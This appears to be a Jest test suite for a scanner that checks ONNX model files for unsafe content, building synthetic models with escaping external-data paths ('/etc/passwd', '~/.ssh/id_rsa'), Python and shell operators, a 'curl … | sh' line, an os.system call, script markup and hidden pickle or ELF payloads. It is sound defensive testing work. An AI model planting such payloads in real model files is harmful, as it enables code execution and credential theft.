import type { ScanOptions } from '../../../../index';
import { scan } from '../../../../index';
import { MemorySource } from '../../../../bytes/memory';
import {
  bytes,
  floats,
  numberField,
  PAYLOAD,
  proto,
  Recorder,
  run,
  sizedField,
  utf8,
  varint,
  zeros
} from '../../../../testing';

const text = (number: number, value: string): Uint8Array => sizedField(number, value);
const message = (number: number, ...fields: readonly Uint8Array[]): Uint8Array => sizedField(number, bytes(...fields));

const node = (operator: string, domain = '', ...more: readonly Uint8Array[]): Uint8Array =>
  message(1, text(1, 'x'), text(2, 'y'), text(4, operator), ...more, ...(domain === '' ? [] : [text(7, domain)]));
const attribute = (name: string, ...value: readonly Uint8Array[]): Uint8Array => message(5, text(1, name), ...value);
const external = (entries: Readonly<Record<string, string>>): Uint8Array[] => [
  numberField(1, 4),
  numberField(2, 1),
  text(8, 'w'),
  ...Object.entries(entries).map(([key, value]) => message(13, text(1, key), text(2, value))),
  numberField(14, 1)
];
const model = (graph: readonly Uint8Array[], ...more: readonly Uint8Array[]): Uint8Array =>
  bytes(
    numberField(1, 8),
    text(2, 'test'),
    message(7, ...graph, text(2, 'g')),
    message(8, numberField(2, 17)),
    ...more
  );
const func = (name: string, domain: string, ...nodes: readonly Uint8Array[]): Uint8Array =>
  message(25, text(1, name), ...nodes.map(one => bytes([0x3a], one.subarray(1))), text(10, domain));

const said = (data: Uint8Array, name = 'model.onnx'): string[] =>
  run(data, undefined, name).findings.map(({ rule, severity }) => `${severity} ${rule}`);
const relu = node('Relu');

describe('ONNX', () => {
  it.each([
    ['a plain model', model([relu])],
    ['operators of the runtimes', model([relu, node('Gelu', 'com.microsoft'), node('Scaler', 'ai.onnx.ml')])],
    ['a function of the model', model([node('F', 'my.own')], func('F', 'my.own', relu))],
    ['data beside the model', model([relu, message(5, ...external({ location: 'model.onnx_data', offset: '0' }))])],
    ['data in a folder below', model([relu, message(5, ...external({ location: 'w/x..y.bin', length: '16' }))])],
    ['names of classes', model([relu], message(14, text(1, 'names'), text(2, "{0: 'cat (big)', 1: 'dog'}")))],
    ['fields that come in another order', bytes(message(7, relu), numberField(1, 8))],
    ['no version and no names', bytes(message(7, relu))]
  ])('is clean: %s', (_what, data) => {
    expect(run(data, undefined, 'model.bin')).toMatchObject({ verdict: 'clean', format: 'onnx', findings: [] });
  });

  it.each([
    '/etc/passwd',
    '../w.bin',
    'a/../../w.bin',
    'a\\..\\..\\w.bin',
    'C:\\w.bin',
    'c:w.bin',
    '\\\\host\\share\\w.bin',
    'https://example.com/w.bin',
    'file:///etc/passwd',
    '~/.ssh/id_rsa',
    'w.bin\0.txt'
  ])('reports a file outside of the folder: %j', location => {
    const tensor = external({ location });
    const wanted = ['HIGH model-external-path'];
    const deep = attribute('body', message(6, node('X', '', attribute('t', message(5, ...tensor)))));
    expect(said(model([relu, message(5, ...tensor)]))).toEqual(wanted);
    expect(said(model([relu, message(15, message(1, ...tensor))]))).toEqual(wanted);
    expect(said(model([node('Constant', '', attribute('value', message(5, ...tensor)))]))).toEqual(wanted);
    expect(said(model([node('Constant', '', attribute('v', message(22, message(2, ...tensor))))]))).toEqual(wanted);
    expect(said(model([node('If', '', deep)]))).toEqual(wanted);
    expect(said(model([relu], func('F', 'f', node('C', '', attribute('v', message(10, ...tensor))))))).toEqual(wanted);
    expect(said(model([relu], message(20, message(2, message(5, ...tensor)))))).toEqual(wanted);
  });

  it('reports an address in memory, unknown keys and ranges that are none', () => {
    const of = (entries: Readonly<Record<string, string>>): string[] =>
      said(model([relu, message(5, ...external(entries))]));
    expect(of({ location: '*/_ORT_MEM_ADDR_/*', offset: '140000000000000', length: '16' })).toEqual([
      'CRITICAL onnx-memory-address'
    ]);
    expect(of({ location: 'w.bin', device: 'x' })).toEqual(['MEDIUM onnx-external-key']);
    expect(of({ location: 'w.bin', __class__: 'x' })).toEqual(['HIGH onnx-external-key']);
    expect(of({ location: 'w.bin', offset: '-8' })).toEqual(['MEDIUM onnx-external-range']);
    expect(of({ location: 'w.bin', length: '99999999999999999' })).toEqual(['MEDIUM onnx-external-range']);
    expect(of({ location: 'w.bin', basepath: '/home/me' })).toEqual(['MEDIUM model-external-path']);
  });

  it.each([
    ['PyOp', 'ai.onnx.contrib', ['HIGH model-python-operator', 'LOW model-custom-operator']],
    ['PythonOp', 'com.microsoft', ['HIGH model-python-operator']],
    ['PyFunc', '', ['HIGH model-python-operator']],
    ['AzureAudioToText', 'com.microsoft.extensions', ['HIGH model-remote-operator', 'LOW model-custom-operator']],
    ['Shell', 'evil', ['MEDIUM model-custom-operator']],
    ['Relu', 'pkg.mine', ['MEDIUM model-custom-operator']],
    ['ExecuteShell', '', ['MEDIUM model-custom-operator']],
    ['RunCommand', 'com.microsoft', ['MEDIUM model-custom-operator']],
    ['PyReverse', 'ai.onnx.contrib', ['MEDIUM model-custom-operator']],
    ['SystemExec', 'ai.onnx.contrib', ['MEDIUM model-custom-operator']],
    ['BertTokenizer', 'ai.onnx.contrib', ['LOW model-custom-operator']]
  ])('reports the operator %s of %s, wherever it stands', (operator, domain, wanted) => {
    const one = node(operator, domain);
    expect(said(model([one]))).toEqual(wanted);
    expect(said(model([node('If', '', attribute('then_branch', message(6, one)))]))).toEqual(wanted);
    expect(said(model([node('Scan', '', attribute('b', message(11, one)))]))).toEqual(wanted);
    expect(said(model([relu], func('F', 'f', one)))).toEqual(wanted);
  });

  it('reports code that was compiled for a device, and files of it', () => {
    const context = (...fields: readonly Uint8Array[]): string[] =>
      said(model([node('EPContext', 'com.microsoft', ...fields)]));
    expect(context(attribute('ep_cache_context', text(4, 'a b')))).toEqual(['LOW onnx-compiled-context']);
    expect(
      context(attribute('embed_mode', numberField(3, 0)), attribute('ep_cache_context', text(4, '../x.bin')))
    ).toEqual(['HIGH model-external-path', 'LOW onnx-compiled-context']);
    expect(context(attribute('source', text(4, 'TensorrtExecutionProvider')))).toEqual([
      'MEDIUM onnx-compiled-context'
    ]);
  });

  it('reports code in the description, and markup in metadata', () => {
    const code = "__import__('os').system('id')";
    expect(said(model([relu], text(6, code)))).toEqual(['MEDIUM model-metadata-code']);
    const markup = message(14, text(1, 'about'), text(2, '<script>alert(1)</script>'));
    expect(said(model([relu], markup))).toEqual(['MEDIUM model-metadata-code']);
    expect(said(model([relu], text(6, 'curl http://x.example/a | sh')))).toEqual(['MEDIUM model-metadata-code']);
    expect(said(model([relu], text(6, 'A model of trees: wget https://example.org/a.onnx')))).toEqual([]);
  });

  it('reports code in what operators are given, in descriptions of graphs, and programs in fields that no version has', () => {
    const code = "__import__('os').system('id')";
    const wanted = ['MEDIUM model-metadata-code'];
    expect(said(model([node('Relu', '', attribute('code', text(4, code)))]))).toEqual(wanted);
    expect(said(model([node('Einsum', '', attribute('equation', text(4, 'bij,bjk->bik')))]))).toEqual([]);
    expect(said(model([relu, text(10, code)]))).toEqual(wanted);
    expect(
      said(model([relu], message(25, text(1, 'F'), text(8, code), bytes([0x3a], relu.subarray(1)), text(10, 'f'))))
    ).toEqual(wanted);
    const program = bytes('\x7fELF', 2, 1, 1, zeros(9), 2, 0, 62, 0, zeros(44));
    expect(said(model([relu], sizedField(99, program)))).toContain('HIGH program-in-model');
    expect(said(model([relu, sizedField(99, program)]))).toContain('HIGH program-in-model');
    expect(said(bytes(model([relu]), program))).toEqual(['MEDIUM program-in-model']);
  });

  it('asks whether the model has the function of that overload', () => {
    const called = model([node('F', 'my.own', text(8, 'fast'))], func('F', 'my.own', relu));
    expect(said(called)).toEqual(['MEDIUM model-custom-operator']);
    const overloaded = message(25, text(1, 'F'), bytes([0x3a], relu.subarray(1)), text(10, 'my.own'), text(13, 'fast'));
    expect(said(model([node('F', 'my.own', text(8, 'fast'))], overloaded))).toEqual([]);
  });

  it('reports a link out of the folder', () => {
    const beside = {
      module: () => undefined,
      leadsTo: (path: string) => (path === 'w.bin' ? '/etc/passwd' : undefined)
    };
    const of = (location: string): string[] =>
      run(model([relu, message(5, ...external({ location }))]), { beside }, 'model.onnx').findings.map(
        ({ severity, evidence }) => `${severity} ${evidence}`
      );
    expect(of('w.bin')).toEqual(['HIGH w.bin -> /etc/passwd']);
    expect(of('v.bin')).toEqual([]);
  });

  it('reports what breaks off', () => {
    const whole = bytes(message(7, relu, node('PyOp', 'ai.onnx.contrib')));
    expect(said(whole.slice(0, -2))[0]).toBe('HIGH model-python-operator');
  });

  it('reports sides that no memory holds', () => {
    const tensor = (...sides: readonly number[]): string[] =>
      said(model([relu, message(5, ...sides.map(side => numberField(1, side)), numberField(2, 1), text(8, 'w'))]));
    expect(tensor(2 ** 40, 2 ** 40)).toEqual(['MEDIUM tensor-layout']);
    expect(tensor(0, 3)).toEqual([]);
  });

  it('reads values that a model takes or gives', () => {
    const of = (data: Uint8Array): string[] => {
      const { format, verdict, findings } = run(data, undefined, 'input_0.pb');
      return [format, verdict, ...findings.map(({ rule }) => rule)];
    };
    const numbers = bytes(numberField(1, 1), numberField(2, 1), sizedField(9, zeros(4)));
    const sequence = bytes(text(1, 'x'), numberField(2, 1), sizedField(3, numbers));
    expect(of(sequence)).toEqual(['onnx', 'clean']);
    expect(of(bytes(text(1, 'x'), numberField(2, 3), sizedField(5, sequence)))).toEqual(['onnx', 'clean']);
    expect(of(bytes(numberField(1, 0), numberField(2, 8), text(8, 'empty')))).toEqual(['onnx', 'clean']);
    expect(of(bytes(numberField(2, 1), message(3, ...external({ location: '../x' }))))).toEqual([
      'onnx',
      'unsafe',
      'model-external-path'
    ]);
    expect(of(bytes(sequence, zeros(1)))[1]).toBe('incomplete');
  });

  it('reports functions that never end', () => {
    const call = (name: string): Uint8Array => node(name, 'f');
    expect(said(model([call('A')], func('A', 'f', call('B')), func('B', 'f', call('A'))))).toEqual([
      'MEDIUM onnx-function-recursion'
    ]);
    const levels = Array.from({ length: 30 }, (_, i) => func(`A${i}`, 'f', call(`A${i + 1}`), call(`A${i + 1}`)));
    expect(said(model([call('A0')], ...levels, func('A30', 'f', relu)))).toEqual(['MEDIUM onnx-function-recursion']);
    expect(said(model([call('A')], func('A', 'f', call('B'), call('B')), func('B', 'f', relu)))).toEqual([]);
  });

  it('reports code in metadata, and files in metadata, attributes and tensors', () => {
    const entry = (key: string, value: string): Uint8Array => message(14, text(1, key), text(2, value));
    expect(said(model([relu], entry('names', "{0: __import__('os').system('id')}")))).toEqual([
      'HIGH model-metadata-code'
    ]);
    expect(said(model([relu], entry('note', "__import__('os').system('id')")))).toEqual(['MEDIUM model-metadata-code']);
    const evil = proto(2, PAYLOAD, zeros(30));
    const base64 = Buffer.from(evil).toString('base64');
    expect(said(model([relu], entry('x', base64)))).toContain('CRITICAL pickle-dangerous-call');
    expect(said(model([node('A', '', attribute('s', sizedField(4, evil)))]))).toContain(
      'CRITICAL pickle-dangerous-call'
    );
    expect(said(model([relu, message(5, sizedField(9, evil))]))).toContain('CRITICAL pickle-dangerous-call');
  });

  it('sees a model behind fields that parsers pass over', () => {
    const evil = model([node('PyOp', 'x')]);
    for (const front of [sizedField(99, '\x89PNG'), bytes('\x89PNG\r\n\x1a\n\0\0'), numberField(1000, 5)]) {
      expect(said(bytes(front, evil), 'model.bin')).toContain('HIGH model-python-operator');
    }
  });

  it('keeps findings of a model that breaks off', () => {
    const data = model([node('PyOp', 'x'), relu]);
    const report = run(data.subarray(0, data.length - 3), undefined, 'model.onnx');
    expect(report.findings.map(({ rule }) => rule)).toContain('model-python-operator');
  });

  it('knows the numbers in a file beside the model, when the model says that they fill it', () => {
    const tensor = (offset: string): Uint8Array =>
      message(5, ...external({ location: 'model.onnx_data', offset, length: '32' }));
    const beside = (data: Uint8Array): ScanOptions => ({
      beside: {
        module: () => undefined,
        open: (name, look) => {
          if (name === 'model.onnx') {
            look(new MemorySource(data));
          }
          return name === 'model.onnx';
        }
      }
    });
    const noise = Uint8Array.from({ length: 200_000 }, (_, i) => (Math.sin(i * 78.233) * 43758.5453) & 255);
    const verdictOf = (data: Uint8Array, ...offsets: readonly string[]): string =>
      run(data, beside(model([relu, ...offsets.map(tensor)])), 'model.onnx_data').verdict;
    expect(verdictOf(floats(16), '0', '32')).toBe('clean');
    expect(verdictOf(floats(15), '0', '32')).toBe('incomplete');
    expect(verdictOf(noise, '0', '32')).toBe('incomplete');
    expect(verdictOf(bytes(floats(16), proto(2, PAYLOAD)), '0', '32')).toBe('unsafe');
    expect(run(floats(16), undefined, 'model.onnx_data').verdict).toBe('clean');
    expect(run(floats(16), undefined, 'model.data').verdict).toBe('incomplete');
  });

  it('finds a pickle and a program at any place among the numbers', () => {
    const raw = (...data: readonly Uint8Array[]): Uint8Array =>
      model([relu, message(5, numberField(2, 1), text(8, 'w'), sizedField(9, bytes(...data)))]);
    const decoy = proto(2, ']', 'q', 0, '0');
    for (const front of [zeros(7), floats(1_000), bytes(zeros(3), decoy, zeros(5), decoy)]) {
      expect(said(raw(front, proto(2, PAYLOAD), zeros(90_000)))).toContain('CRITICAL pickle-dangerous-call');
    }
    const elf = bytes(
      '\x7fELF\x02\x01\x01',
      zeros(9),
      [3, 0, 62, 0, 1, 0, 0, 0],
      zeros(8),
      [64],
      zeros(31),
      zeros(4000)
    );
    expect(said(raw(zeros(5), elf))).toEqual(['MEDIUM program-in-model']);
    expect(said(raw(decoy, zeros(5), decoy))).toEqual([]);
  });

  it('finds a pickle among the numbers of a model of many megabytes', () => {
    const data = bytes(zeros(5 * 2 ** 20), proto(2, PAYLOAD), zeros(5 * 2 ** 20));
    const large = model([relu, message(5, numberField(2, 1), text(8, 'w'), sizedField(9, data))]);
    expect(said(large)).toContain('CRITICAL pickle-dangerous-call');
  });

  it('finds a file in numbers that are written one by one', () => {
    const evil = [...proto(2, PAYLOAD, zeros(6))];
    const tensor = (...fields: readonly Uint8Array[]): Uint8Array =>
      model([relu, message(5, numberField(2, 6), text(8, 'w'), ...fields)]);
    const words = (values: readonly number[], width: number): number[] =>
      Array.from({ length: Math.ceil(values.length / width) }, (_, i) =>
        values.slice(i * width, (i + 1) * width).reduce((sum, byte, at) => sum + byte * 256 ** at, 0)
      );
    const packed = (numbers: readonly number[]): Uint8Array => bytes(...numbers.map(varint));
    for (const field of [5, 7, 11]) {
      for (const width of [1, 2, 4]) {
        expect(said(tensor(sizedField(field, packed(words(evil, width)))))).toContain('CRITICAL pickle-dangerous-call');
      }
      expect(said(tensor(...evil.map(byte => numberField(field, byte))))).toContain('CRITICAL pickle-dangerous-call');
    }
    // Seven bytes of a number are exact here; the highest one is zero.
    const program = [...bytes('\x7fELF', 2, 1, 1, zeros(9), 2, 0, 62, 0, zeros(44))].map((byte, i) =>
      i % 8 < 7 ? byte : 0
    );
    expect(said(tensor(sizedField(7, packed(words(program, 8)))))).toContain('HIGH program-in-model');
    const [first, rest] = [evil.slice(0, 5), evil.slice(5)].map(part => sizedField(5, packed(part)));
    expect(said(tensor(first, rest))).toContain('CRITICAL pickle-dangerous-call');
    const attributes = evil.map(byte => numberField(8, byte));
    expect(said(model([node('A', '', attribute('ints', ...attributes))]))).toContain('CRITICAL pickle-dangerous-call');
    expect(said(tensor(sizedField(7, packed(Array.from({ length: 200 }, (_, i) => i)))))).toEqual([]);
    expect(
      said(tensor(sizedField(5, packed([...words([120, 156], 1), ...Array.from({ length: 99 }, () => 7)]))))
    ).toEqual([]);
  });

  it('looks at each text of a list', () => {
    const base64 = Buffer.from(proto(2, PAYLOAD, zeros(30))).toString('base64');
    const list = (value: string): string[] =>
      said(model([node('A', '', attribute('l', text(9, 'a'), text(9, value)))]));
    expect(list(base64)).toContain('CRITICAL pickle-dangerous-call');
    expect(list("__import__('os').system('id')")).toEqual(['MEDIUM model-metadata-code']);
    expect(list('a word of some length')).toEqual([]);
    expect(said(model([relu, message(5, numberField(2, 8), text(6, base64))]))).toContain(
      'CRITICAL pickle-dangerous-call'
    );
    // A pickle without a header that is no text, and bytes that only begin like a file.
    const bare = bytes(proto(4, PAYLOAD).subarray(2), zeros(30), 0xff);
    const one = (value: Uint8Array): string[] =>
      said(model([relu, message(5, numberField(2, 8), sizedField(6, value))]));
    expect(one(bare)).toContain('CRITICAL pickle-dangerous-call');
    expect(
      one(
        bytes(
          0x78,
          0x9c,
          Array.from({ length: 40 }, () => 0xff)
        )
      )
    ).toEqual([]);
    expect(
      one(
        bytes(
          0x80,
          4,
          Array.from({ length: 40 }, () => 0xff)
        )
      )
    ).toEqual([]);
  });

  it('misses numbers that a file beside the model is too short for', () => {
    const verdictOf = (entries: Readonly<Record<string, string>>, size: number): string =>
      run(
        model([relu, message(5, ...external(entries))]),
        {
          beside: {
            module: () => undefined,
            open: (_name, look) => {
              look(new MemorySource(zeros(size)));
              return true;
            }
          }
        },
        'model.onnx'
      ).verdict;
    expect(verdictOf({ location: 'w.bin' }, 16)).toBe('clean');
    expect(verdictOf({ location: 'w.bin' }, 15)).toBe('incomplete');
    expect(verdictOf({ location: 'w.bin', offset: '4' }, 16)).toBe('incomplete');
    expect(verdictOf({ location: 'w.bin', length: '4' }, 15)).toBe('incomplete');
  });

  it('takes JSON without a version', () => {
    const json =
      '{"graph":{"initializer":[{"externalData":[{"key":"location","value":"/etc/passwd"}],"dataLocation":"EXTERNAL"}]}}';
    expect(said(utf8(json), 'model.json')).toEqual(['HIGH model-external-path']);
  });

  it('reads little of a large model', () => {
    const tensors = Array.from({ length: 400 }, () =>
      message(5, numberField(2, 1), text(8, 'w'), sizedField(9, zeros(100_000)))
    );
    const data = model([relu, ...tensors]);
    const source = new Recorder(new MemorySource(data));
    expect(scan(source, 'model.onnx').verdict).toBe('clean');
    expect(source.bytes / data.length).toBeLessThan(0.1);
  });
});
